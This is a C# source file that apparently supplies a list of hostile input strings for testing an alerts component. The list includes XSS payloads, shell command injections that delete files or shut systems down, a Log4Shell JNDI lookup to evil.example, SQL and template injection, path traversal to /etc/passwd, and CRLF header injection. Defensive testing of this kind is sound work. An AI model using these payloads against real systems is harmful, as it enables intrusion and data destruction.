namespace OpsFunctions.Stages.Alerts;

/// <summary>Values that somebody sends who wants more than to send an alert.</summary>
internal static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "[click](https://evil.example)",
        "$(rm -rf /)", "`reboot`", "; shutdown -h now #", "& del /q c:\\ &", "| Out-File x", "%SYSTEMROOT%",
        "${jndi:ldap://evil.example/x}",
        "' or 1=1 --", "\" | take 1 //", "{{7*7}}", "../../../etc/passwd", "/subscriptions/../../providers", "%2e%2e%2f",
        "https://evil.example/subscriptions/11111111-2222-3333-4444-555555555555",
        "/subscriptions/11111111-2222-3333-4444-555555555555/resourcegroups/rg/../../x",
        "/subscriptions/11111111-2222-3333-4444-555555555555?x=1",
        "/subscriptions/11111111-2222-3333-4444-555555555555/resourcegroups/rg#f", "a\u0000b", "a\r\nSet-Cookie: x=1", "\u202Etxt.exe",
        "\uFEFF",
        "😀😀", "NaN", "Infinity", "-1e999", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59+23:59", "PT99999999999999S", "P-1D", "", " ",
        "Sev99", "RESOLVED", "ops-alerts Stored\n0000000000000000000000000000000000000000000000000000000000000000", "ops-alerts Health\n{}",
    ];
}
